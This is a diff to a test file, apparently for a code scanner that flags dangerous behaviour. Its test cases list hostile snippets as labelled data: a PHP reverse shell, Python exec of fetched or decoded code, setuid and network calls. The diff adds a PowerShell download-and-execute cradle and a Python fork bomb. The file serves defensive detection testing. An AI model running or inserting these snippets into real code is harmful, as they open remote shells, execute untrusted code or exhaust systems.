@@ -37,6 +37,8 @@ def test_commands_started(language: str, code: str, commands: tuple[str, ...]) -
         ("php", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");', "reverse-shell"),
         ("python", "exec(urllib.request.urlopen('http://h').read())", "executes-fetched"),
         ("python", "exec(base64.b64decode(x))", "executes-decoded"),
+        ("powershell", "IEX (New-Object Net.WebClient).downloadSTRING(1)", "executes-fetched"),
+        ("python", "[os.fork() for _ in iter(int, 1)]", "fork-bomb"),
         ("python", "os.setuid(0)", "code-setuid"),
         ("python", "ctypes.CDLL('x')", "loads-library"),
         ("python", "requests.get('http://h')", "code-network"),
